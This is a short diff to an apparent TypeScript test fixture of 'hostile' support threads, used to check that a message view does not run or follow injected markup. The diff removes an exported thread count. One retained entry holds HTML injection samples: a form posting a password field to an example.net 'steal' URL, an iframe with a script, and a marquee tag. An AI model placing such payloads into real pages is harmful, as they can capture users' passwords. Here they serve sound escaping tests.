@@ -27,9 +27,6 @@ const threads: readonly HostileThread[] = [
   { category: 'account', tags: ['autofill'], subject: 'Form filled itself with <form action=https://example.net>', first: 'When I paste my address your form shows <form action="https://example.net/steal"><input name=password autofocus></form> and <iframe srcdoc="<script>top.location=1</script>"></iframe>. Is my computer infected?', answer: 'Your clipboard manager seems to add it. Nothing of it runs here, but please check the computer.', reply: 'It was an extension. Removed. <marquee>All good</marquee>' },
 ];
 
-/** How many different hostile threads there are. */
-export const hostileThreads = threads.length;
-
 /** A thread whose texts a careless window would run, follow or be broken by. */
 export function hostileThread(random: Random, which: number): WholeThread {
   const thread = threads[which % threads.length] ?? pick(random, threads);
